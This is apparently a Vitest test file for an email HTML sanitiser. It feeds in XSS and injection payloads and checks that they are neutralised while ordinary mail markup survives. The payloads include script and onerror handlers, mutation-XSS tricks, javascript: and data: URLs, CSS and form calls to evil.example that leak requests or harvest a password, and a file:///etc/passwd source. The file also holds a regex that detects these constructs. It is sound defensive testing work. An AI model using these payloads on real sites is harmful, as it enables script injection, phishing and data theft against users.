import { expect, test } from 'vitest'
import { cleanHtml } from './clean-html.ts'

// Mutation XSS, animated addresses, styles that are read twice, forms, refreshes, content addresses.
test.each([
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<style>a{background:url(https://evil.example/?x)}</style>',
  '<style>a{b\\61ckground:u\\72l(https://evil.example/)}</style>',
  '<p style="background-image:url(https://evil.example/)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="position:fixed;top:0">x</p>',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object><embed src="https://evil.example">',
  '<a href="javascript:alert(1)">x</a><a href="&#106;avascript:alert(1)">x</a><a href="java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a><a href="vbscript:x">x</a><a href="//evil.example">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>"><img src="//evil.example/x.png"><img src="file:///etc/passwd">',
  '<template><img src=x onerror=alert(1)></template><video src="https://evil.example"></video>',
  '<body onload=alert(1) background="https://evil.example/x.png">x</body>',
  '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
  `${'<div>'.repeat(5_000)}<script>alert(1)</script>`,
])('%s loses its sting', (html) => {
  const { html: cleaned } = cleanHtml(html)
  expect(cleaned).not.toMatch(
    /<(script|svg|math|form|input|button|meta|base|link|iframe|object|embed|template|video|noscript|animate)|\son\w+\s*=|javascript:|vbscript:|evil\.example|svg\+xml|file:|expression|position|data:text/i,
  )
})

test('what a mail needs stays, and remote pictures are counted', () => {
  const html =
    '<html><head><title>gone</title><style>p{color:red}@media (max-width:600px){p{font-size:14px}}</style></head><body bgcolor="#fff">' +
    '<p style="color:#333;padding:4px">Bonjour <b>Zoé</b></p><a href="https://a.example/?x=1&amp;y=2">a</a><a href="mailto:a@b.example">m</a>' +
    '<img src="https://i.example/a.png" alt="a" width="10"><img src="cid:1"><img src="data:image/png;base64,AA=="></body></html>'
  const cleaned = cleanHtml(html)
  expect(cleaned.remoteImages).toBe(1)
  expect(cleaned.html).toBe(
    '<html><head><style>p{color:red}@media (max-width:600px){p{font-size:14px}}</style></head><body bgcolor="#fff">' +
      '<p style="color:#333;padding:4px">Bonjour <b>Zoé</b></p>' +
      '<a href="https://a.example/?x=1&amp;y=2" target="_blank" rel="noopener noreferrer nofollow">a</a>' +
      '<a href="mailto:a@b.example" target="_blank" rel="noopener noreferrer nofollow">m</a>' +
      '<img src="https://i.example/a.png" alt="a" width="10" /><img src="cid:1" /><img src="data:image/png;base64,AA==" /></body></html>',
  )
})
